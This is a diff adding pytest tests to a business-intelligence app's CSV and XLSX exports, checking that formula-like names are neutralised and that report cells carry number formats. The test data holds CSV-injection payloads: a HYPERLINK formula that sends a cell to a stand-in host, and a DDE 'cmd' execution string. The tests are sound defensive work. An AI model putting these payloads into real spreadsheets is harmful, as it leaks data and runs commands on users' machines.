@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import openpyxl
 import pandas as pd
 import pytest
+from urllib.parse import quote
 
 from bi_app import exports
 from data_layer.bootstrap import load_demo_data
@@ -59,7 +61,7 @@ def test_orders_csv_returns_exactly_the_filtered_rows(
 def test_orders_csv_with_no_match_is_just_the_header(client) -> None:
     response = client.get("/export/orders.csv?start=2030-01-01")
     assert response.status_code == 200
-    assert response.data.decode().strip() == ",".join(SALES_COLUMNS)
+    assert response.data.decode("utf-8-sig").strip() == ",".join(SALES_COLUMNS)
 
 
 def test_orders_xlsx_has_the_filtered_rows(client, orders: pd.DataFrame) -> None:
@@ -201,3 +203,75 @@ def test_assumptions_change_the_projection_not_the_numbers(client) -> None:
     assert default["numbers"]["recent_revenue"] == pytest.approx(lately, abs=0.01)
     assert bolder["projection"]["revenue"] == pytest.approx(min(revenue * 0.25, lately), abs=0.01)
     assert default["projection"]["revenue"] == pytest.approx(min(revenue * 0.10, lately), abs=0.01)
+
+
+HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A2)",
+           "-2+3", "=Café – €5"]
+
+
+def test_hostile_names_are_never_formulas_in_any_download(engine, tmp_path, client, point_app_at) -> None:  # noqa: ANN001
+    """Names a spreadsheet would run (OWASP's CSV injection cases) come back as text: string cells in
+    every XLSX, a leading apostrophe in every CSV; CSVs start with a UTF-8 byte-order mark."""
+    from tests.test_money import run
+
+    path = tmp_path / "hostile.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["Order", "Date", "Product", "Qty", "Price", "Customer", "Region", "Category"])
+        for i, name in enumerate(HOSTILE * 2):
+            writer.writerow([f"O{i}", f"2024-03-{i + 1:02d}", name, 1, f"{10 + i}.50", name,
+                             HOSTILE[(i + 1) % len(HOSTILE)], HOSTILE[(i + 2) % len(HOSTILE)]])
+    outcome, messages = run(engine, path)
+    point_app_at(engine.url.render_as_string(hide_password=False))
+    product_filter = "&".join(f"product={quote(name)}" for name in HOSTILE)
+
+    for download in ("orders.xlsx", "customers.xlsx", f"report.xlsx?{product_filter}"):
+        response = client.get(f"/export/{download}")
+        assert response.status_code == 200, download
+        book = openpyxl.load_workbook(io.BytesIO(response.data))
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [], download
+        texts = {c.value for c in cells if isinstance(c.value, str)}
+        written = {name for name in HOSTILE if name in texts or any(name in t for t in texts)}
+        assert written == set(HOSTILE), (download, set(HOSTILE) - written)
+
+    for table in ("orders", "customers", "products", "categories", "regions", "segments", "rfm", "trend"):
+        response = client.get(f"/export/{table}.csv")
+        assert response.status_code == 200, table
+        assert response.data.startswith(b"\xef\xbb\xbf"), table
+        fields = [f for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for f in row]
+        bare = [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))
+                or (f.startswith("-") and not is_number(f))]
+        assert bare == [], (table, bare)
+        if table in ("orders", "products", "regions", "categories"):
+            assert {f"'{name}" for name in HOSTILE} <= set(fields), table
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_report_numbers_have_number_formats(client) -> None:
+    """Money in the currency, counts whole, shares and changes as percentages (not 25.00 and 0.04)."""
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/export/report.xlsx?start=2024-03-01&end=2024-03-31").data))
+    summary = {row[0].value: row for row in book["Summary"].iter_rows() if row[0].value}
+    assert summary["orders"][1].number_format == summary["customers"][1].number_format == "#,##0"
+    assert summary["revenue"][3].number_format == summary["orders"][5].number_format == "0.0%"
+    assert summary["average_satisfaction"][1].number_format == "#,##0.00"
+    regions = book["Regions"]
+    header = [c.value for c in regions[1]]
+    first = {name: cell for name, cell in zip(header, regions[2])}
+    assert first["customers"].number_format == first["orders"].number_format == "#,##0"
+    assert first["customer_share"].number_format == "0.0%"
+    assert first["revenue"].number_format == '"$"#,##0.00;-"$"#,##0.00'
+    lifecycle = {row[0].value: row[1] for row in book["Lifecycle"].iter_rows(min_row=2)}
+    assert lifecycle["repeat_rate"].number_format == "0.0%"
+    assert lifecycle["churned_customers"].number_format == "#,##0"
+    assert lifecycle["revenue_at_risk"].number_format == '"$"#,##0.00;-"$"#,##0.00'
+    distribution = {row[0].value: row[1] for row in book["Distribution"].iter_rows(min_row=2) if row[0].value}
+    assert distribution["orders"].number_format == "#,##0"
+    assert distribution["median"].number_format == '"$"#,##0.00;-"$"#,##0.00'
